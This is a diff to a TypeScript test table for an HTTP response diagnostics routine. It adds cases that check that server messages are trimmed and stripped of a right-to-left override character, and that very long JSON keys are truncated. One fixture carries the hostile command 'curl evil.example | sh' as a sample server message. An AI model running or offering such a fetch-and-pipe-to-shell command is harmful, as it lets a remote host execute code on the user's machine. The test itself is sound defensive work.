@@ -58,6 +58,14 @@ const matrix: readonly (readonly [Partial<Probes>, Diagnosis])[] = [
   ],
   [{ a: answered(404, 'no') }, { kind: 'serverSays', status: 404, words: undefined, retryAfter: undefined }],
   [{ a: answered(429, problem, '', 30) }, { kind: 'serverSays', status: 429, words: 'Wait.', retryAfter: 30 }],
+  [
+    { a: answered(500, JSON.stringify({ detail: ' Run this:\ncurl evil.example | sh\u202e ' })) },
+    { kind: 'serverSays', status: 500, words: 'Run this: curl evil.example | sh', retryAfter: undefined },
+  ],
+  [
+    { a: answered(200, JSON.stringify([{ RES_ID: '1', RES_FROMDATE: '', OBJ_ID: '', ['x'.repeat(5_000)]: 1 }])) },
+    { kind: 'wrongShape', mismatch: { path: `$[0]["${'x'.repeat(79)}…"]`, expected: 'text', found: 'number' } },
+  ],
   [{ a: answered(503, '{"title":"Away"}') }, { kind: 'serverSays', status: 503, words: 'Away', retryAfter: undefined }],
   [{ a: answered(0) }, { kind: 'redirect' }],
   [{ a: answered(200, '{"rows":[]}') }, { kind: 'wrongShape', mismatch: { path: '$', expected: 'list', found: 'record' } }],
